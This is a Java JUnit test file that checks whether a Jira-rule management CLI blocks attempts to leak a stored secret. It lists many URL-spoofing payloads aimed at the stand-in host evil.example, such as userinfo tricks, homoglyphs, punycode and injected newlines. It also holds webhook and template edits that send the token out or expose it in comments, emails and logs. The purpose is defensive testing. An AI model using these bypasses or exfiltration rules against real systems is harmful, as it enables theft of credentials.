package dev.rulekeeper.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rulekeeper.sandbox.Sandbox;
import dev.rulekeeper.sandbox.SandboxOptions;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What somebody would try who may edit rule files, templates, fragments and variables, and not the
 * ledger: none of it may bring the secret to another host or under other eyes.
 */
class EgressAttackTest {
  private static final String VALUE = "EXAMPLE-value-of-the-secret-7Qm2";
  private static final String GOOD = "https://ci.acme.example/builds";
  private static final String TAG = "<<secret:ci-key>>";

  /** A rule that sends the secret where it may go, and keeps it in a variable. */
  private static final String RULE =
      """
      id: 019ab7c0-1111-7222-8333-444455556666
      name: Start a build
      state: DISABLED
      description: starts it
      labels:
        - ci
      scope: site
      actor:
        type: ACCOUNT_ID
        actor: %1$s
      authorAccountId: %1$s
      writeAccessType: UNRESTRICTED
      collaborators: []
      canOtherRuleTrigger: false
      notifyOnError: FIRSTERROR
      trigger:
        component: TRIGGER
        type: jira.manual.trigger.issue
        schemaVersion: 3
        value: {}
      components:
        - component: ACTION
          type: jira.create.variable
          schemaVersion: 1
          value:
            id: _customsmartvalue_id_1783437308658
            name:
              type: FREE
              value: token
            type: SMART
            query:
              type: SMART
              value: <<secret:ci-key>>
        - component: ACTION
          type: jira.issue.outgoing.webhook
          schemaVersion: 1
          value:
            url: https://ci.acme.example/builds
            headers:
              - name: Authorization
                value: Bearer {{token}}
                headerSecure: true
            sendIssue: false
            contentType: custom
            customBody: key=<<secret:ci-key>>
            method: POST
      """;

  @TempDir private static Path folder;
  private static Sandbox sandbox;
  private static SandboxRepository repository;
  private static Path file;
  private static Path configuration;
  private static String plain;
  private static String plainConfiguration;

  @BeforeAll
  static void set_up_a_rule_that_is_allowed() throws IOException {
    sandbox = Sandbox.start(SandboxOptions.builder().rules(1).build());
    repository = SandboxRepository.exported(sandbox, folder);
    repository.rotate("ci-key", VALUE);
    String author = sandbox.rules().get(0).path("rule").path("authorAccountId").asText();
    plain = RULE.formatted(author);
    file = repository.root().resolve("rules/site/start-a-build.yaml");
    Files.createDirectories(Objects.requireNonNull(file.getParent()));
    configuration = repository.root().resolve("rulekeeper.yaml");
    plainConfiguration = Files.readString(configuration);
    Path ledger = repository.root().resolve("secrets.yaml");
    Files.writeString(
        ledger,
        Files.readString(ledger)
            .replaceFirst(
                "(?m)^secrets:(?: \\{})?\n",
                "secrets:\n  ci-key:\n    hosts:\n      - ci.acme.example\n"));
    Files.writeString(file, plain);
    repository.runWithSecrets("plan", "--exit-code").exitedWith(3);
  }

  @AfterEach
  void take_the_attack_back() throws IOException {
    Files.writeString(file, plain);
    Files.writeString(configuration, plainConfiguration);
    for (String extra : new String[] {"templates/steal.yaml", "templates/fragments/steal.txt"}) {
      Files.deleteIfExists(repository.root().resolve(extra));
    }
  }

  @AfterAll
  static void stop_the_site() {
    sandbox.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/builds",
        "http://ci.acme.example/builds",
        "HTTP://ci.acme.example/builds",
        "http://bot:x@ci.acme.example/builds",
        "https://ci.acme.example@evil.example/builds",
        "https://ci.acme.example:443@evil.example/builds",
        "https://ci.acme.example.evil.example/builds",
        "https://evilci.acme.example/builds",
        "https://CI.ACME.EXAMPLE.evil.example/builds",
        "https://evil.example./builds",
        "https://evil.example:443/builds",
        "https://evil.example\\@ci.acme.example/builds",
        "https://evil.example\\.ci.acme.example/builds",
        "https:\\\\evil.example/ci.acme.example",
        "https://сi.acme.example/builds",
        "https://xn--i-tgb.acme.example/builds",
        "https://ci。acme。example/builds",
        "https://ci.acme%2Eexample@evil.example/",
        "https://%63i.acme.example/builds",
        "//evil.example/builds",
        "/builds",
        "evil.example/builds",
        "ftp://ci.acme.example/builds",
        "https://ci.acme.example evil.example/",
        "https://ci.acme.example\t.evil.example/",
        "https://ci.acme.example\n.evil.example/",
        "https://evil.example/\nhttps://ci.acme.example/",
        "https://{{issue.summary}}/",
        "https://{{issue.summary}}ci.acme.example/",
        "https://ci.acme.example{{issue.summary}}/",
        "https://ci.acme.example:{{issue.summary}}/",
        "{{hosts.get(\"ci\")}}",
        "{{#if(true)}}https://evil.example/{{/}}",
        "https://<<secret:ci-key>>.evil.example/",
        "https://ci.acme.example<<#json>>.evil.example<</json>>/",
        "https://<<#urlencode>>evil.example<</urlencode>>/"
      })
  void an_address_that_could_lead_elsewhere_is_blocked(String address) throws IOException {
    Files.writeString(file, plain.replace("url: " + GOOD, "url: " + quoted(address)));
    isBlocked();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://CI.acme.example/other",
        "https://ci.acme.example:8443/builds",
        "https://ci.acme.example./builds",
        "https://bot:x@ci.acme.example/builds",
        "https://ci.acme.example/builds?key=<<secret:ci-key>>",
        "https://ci.acme.example/{{issue.key}}"
      })
  void the_same_host_in_another_spelling_is_not(String address) throws IOException {
    Files.writeString(file, plain.replace("url: " + GOOD, "url: " + quoted(address)));
    repository.runWithSecrets("plan", "--exit-code").exitedWith(3);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        TAG,
        "<<#base64>>" + TAG + "<</base64>>",
        "<<#urlencode>><<#base64>>x" + TAG + "<</base64>><</urlencode>>",
        "{{token}}",
        "{{ token }}",
        "{{token.left(3)}}",
        "{{TOKEN}}",
        "{{#token}}{{.}}{{/}}",
        "{{issue.key.concat(token)}}",
        "{<<#json>>{token}}<</json>>",
        "{{<<#urlencode>>token<</urlencode>>}}",
        "{{to<<#json>>ken<</json>>}}"
      })
  void text_that_would_show_the_secret_is_blocked_wherever_people_read(String text)
      throws IOException {
    for (String component : publishing(text)) {
      Files.writeString(file, plain + component);
      isBlocked();
    }
  }

  private static String[] publishing(String text) {
    return new String[] {
      action("jira.issue.comment", "comment: " + quoted(text)),
      action("codebarrel.action.log", quoted(text)),
      action("jira.issue.outgoing.email", "subject: hello\n      body: " + quoted(text)),
      action("jira.issue.edit", "summary: " + quoted(text)),
      action("com.example.app:unknown-action", "text: " + quoted(text)),
      action(
          "slack.notification",
          "webhookUrl: https://ci.acme.example/\n      message: " + quoted(text))
    };
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("fields")
  void a_field_of_the_rule_that_would_show_the_secret_is_blocked(String line, String instead)
      throws IOException {
    assertThat(plain).contains(line);
    Files.writeString(file, plain.replace(line, instead));
    isBlocked();
  }

  static Stream<Arguments> fields() {
    return Stream.of(
        Arguments.of("name: Start a build", "name: " + TAG),
        Arguments.of("description: starts it", "description: " + TAG),
        Arguments.of("  - ci\n", "  - " + TAG + "\n"),
        Arguments.of("collaborators: []", "collaborators:\n  - " + TAG),
        Arguments.of("notifyOnError: FIRSTERROR", "notifyOnError: FIRSTERROR\nnote: " + TAG),
        Arguments.of(
            "canOtherRuleTrigger", "tags:\n  - {tagValue: " + TAG + "}\ncanOtherRuleTrigger"),
        Arguments.of(
            "type: jira.manual.trigger.issue\n  schemaVersion: 3\n  value: {}",
            "type: jira.jql.scheduled\n  schemaVersion: 1\n  value: {jql: 'text ~ \""
                + TAG
                + "\"'}"));
  }

  @Test
  void a_condition_and_a_branch_cannot_ask_for_the_secret_bit_by_bit() throws IOException {
    Files.writeString(
        file,
        plain
            + component(
                "CONDITION",
                "jira.comparator.condition",
                "first: '{{token}}'\n"
                    + "      second: '{{issue.summary}}'\n"
                    + "      operator: STARTS_WITH"));
    isBlocked();
    Files.writeString(
        file,
        plain + component("BRANCH", "jira.issue.related", "jql: 'summary ~ \"" + TAG + "\"'"));
    isBlocked();
  }

  @Test
  void a_second_request_and_a_second_variable_are_seen_too() throws IOException {
    String variable =
        action(
            "jira.create.variable",
            "name: {type: FREE, value: copy}\n      query: {type: SMART, value: 'x{{token}}'}");
    String request =
        action(
            "jira.issue.outgoing.webhook",
            "url: https://evil.example/\n      method: POST\n      contentType: custom\n      "
                + "customBody: '{{copy}}'");
    Files.writeString(file, plain + variable + request);
    isBlocked();
    Files.writeString(file, plain + request.replace("{{copy}}", "{{token}}"));
    isBlocked();
    Files.writeString(
        file,
        plain
            + action(
                "jira.issue.outgoing.webhook",
                "url: 'https://evil.example/?{{token}}'\n      method: GET\n      headers: []"));
    isBlocked();
  }

  @Test
  void a_variable_of_the_site_is_read_as_what_it_stands_for() throws IOException {
    variables("host: ci.acme.example\n      leak: '{{token}}'\n      brace: '{'");
    Files.writeString(file, plain.replace("url: " + GOOD, "url: https://<<var:host>>/builds"));
    repository.runWithSecrets("plan", "--exit-code").exitedWith(3);
    variables("host: evil.example\n      leak: '{{token}}'\n      brace: '{'");
    isBlocked();
    Files.writeString(file, plain + action("jira.issue.comment", "comment: '<<var:leak>>'"));
    isBlocked();
    Files.writeString(
        file, plain + action("jira.issue.comment", "comment: '<<var:brace>>{token}}'"));
    isBlocked();
  }

  @Test
  void a_template_and_a_fragment_are_read_as_what_they_make() throws IOException {
    write("templates/fragments/steal.txt", "evil.example");
    Files.writeString(file, plain.replace("ci.acme.example/builds", "<<>steal>>/builds"));
    isBlocked();
    String rule = plain.substring(plain.indexOf("name:")).indent(2);
    write(
        "templates/steal.yaml",
        "parameters: {host: {type: string}}\nrule:\n"
            + rule.replace("ci.acme.example", "<<param:host>>"));
    Files.writeString(
        file,
        "id: 019ab7c0-1111-7222-8333-444455556666\ntemplate: steal\nwith: {host: evil.example}\n");
    isBlocked();
  }

  @Test
  void a_name_that_the_ledger_does_not_know_is_blocked_too() throws IOException {
    repository.environment().put("RULEKEEPER_SECRET_OTHER", "EXAMPLE-other");
    Files.writeString(file, plain.replace(TAG, "<<secret:" + "o".repeat(250) + ">>"));
    assertThat(repository.runWithSecrets("plan").exit()).isNotZero();
  }

  private static void variables(String lines) throws IOException {
    Files.writeString(
        configuration,
        plainConfiguration.replace(
            "    product: jira\n", "    product: jira\n    variables:\n      " + lines + "\n"));
  }

  private static void isBlocked() {
    CommandRun plan = repository.runWithSecrets("plan").exitedWith(7);
    assertThat(plan.out()).contains("blocked").contains("secrets.yaml");
    repository.runWithSecrets("sync").exitedWith(7);
    assertThat(sandbox.rules()).hasSize(1);
    assertThat(sandbox.rules().toString()).doesNotContain(VALUE);
  }

  private static String action(String type, String value) {
    return component("ACTION", type, value);
  }

  private static String component(String component, String type, String value) {
    boolean plainText = value.startsWith("\"");
    return "  - component: "
        + component
        + "\n    type: "
        + type
        + "\n    schemaVersion: 1\n    value:"
        + (plainText ? " " : "\n      ")
        + value
        + "\n";
  }

  private static String quoted(String text) {
    return "\""
        + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\n", "\\n")
        + "\"";
  }

  private static void write(String path, String text) throws IOException {
    Path target = repository.root().resolve(path);
    Files.createDirectories(Objects.requireNonNull(target.getParent()));
    Files.writeString(target, text);
  }
}
